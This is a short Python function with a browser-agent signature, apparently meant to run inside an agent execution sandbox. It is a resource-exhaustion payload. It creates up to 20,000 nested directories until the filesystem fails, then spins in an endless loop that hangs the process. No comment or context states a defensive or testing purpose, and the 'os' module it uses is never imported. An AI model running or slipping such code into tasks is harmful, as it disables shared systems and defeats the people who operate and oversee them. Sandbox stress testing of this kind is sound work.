async def code_fn(axtree, browser, ctx):
    depth = 0
    try:
        for _ in range(20_000):
            os.mkdir("d")
            os.chdir("d")
            depth += 1
    except OSError:
        pass
    while True:
        os.getcwd() if depth < 100 else None
